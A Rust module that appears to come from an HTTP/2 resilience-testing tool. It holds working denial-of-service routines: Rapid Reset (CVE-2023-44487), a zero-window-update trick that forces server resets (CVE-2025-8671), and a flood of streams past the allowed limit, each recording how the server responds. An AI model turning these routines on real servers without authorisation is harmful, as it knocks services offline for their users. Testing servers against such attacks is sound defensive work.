//! Streams that are opened and cancelled, and more streams than allowed.

use tokio::time::Instant;

use super::{LAST_CUT, NOTICE, Report, Target, in_time, stream_ids};
use crate::{
    frames::{
        CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS, NONE, RESET_STREAM, WINDOW_UPDATE, call,
        frame,
    },
    wire::{Seen, Wire},
};

/// The most streams that one connection opens and cancels.
const STREAMS_MAX: u32 = 20_000;
/// The number of streams in one write.
const BURST_STREAMS: usize = 100;
/// The number of streams that one connection holds open.
const HELD_STREAMS: u32 = 1_000;

/// Begins calls and cancels each at once (CVE-2023-44487), on one connection after another.
pub async fn rapid_reset(target: &Target, until: Instant) -> Report {
    churn(target, until, |stream, block| {
        [
            frame(HEADERS, END_HEADERS, stream, block),
            frame(DATA, END_STREAM, stream, &target.request),
            frame(RESET_STREAM, NONE, stream, &CANCEL.to_be_bytes()),
        ]
        .concat()
    })
    .await
}

/// Makes the server reset calls by an error in each (CVE-2025-8671): a window update of zero.
pub async fn made_to_reset(target: &Target, until: Instant) -> Report {
    churn(target, until, |stream, block| {
        [
            frame(HEADERS, END_HEADERS, stream, block),
            frame(WINDOW_UPDATE, NONE, stream, &[0; 4]),
        ]
        .concat()
    })
    .await
}

async fn churn(
    target: &Target,
    until: Instant,
    stream_of: impl Fn(u32, &[u8]) -> Vec<u8>,
) -> Report {
    let block = call(target.path, &target.token, &[]);
    let mut report = Report::default();
    while in_time(until) {
        let Some(mut wire) = Wire::begin(target.address).await else {
            continue;
        };
        let ids: Vec<u32> = stream_ids(STREAMS_MAX).collect();
        let mut sent = 0;
        for burst in ids.chunks(BURST_STREAMS) {
            let bytes: Vec<u8> = burst
                .iter()
                .flat_map(|stream| stream_of(*stream, &block))
                .collect();
            if wire.seen().is_cut() || !in_time(until) || !wire.send(&bytes).await {
                break;
            }
            sent += burst.len() as u64;
        }
        wire.sees(until + LAST_CUT, Seen::is_cut).await;
        report.note(&wire, sent);
    }
    report
}

/// Begins more calls than a connection may have, and ends none of them.
pub async fn too_many(target: &Target, until: Instant) -> Report {
    let block = call(target.path, &target.token, &[]);
    let mut report = Report::default();
    if let Some(mut wire) = Wire::begin(target.address).await {
        let bytes: Vec<u8> = stream_ids(HELD_STREAMS)
            .flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &block))
            .collect();
        wire.send_until(&bytes, until).await;
        wire.sees(until + NOTICE, |seen| {
            seen.is_cut() || seen.answers + seen.resets >= 1_000
        })
        .await;
        report.note(&wire, u64::from(HELD_STREAMS));
    }
    report
}
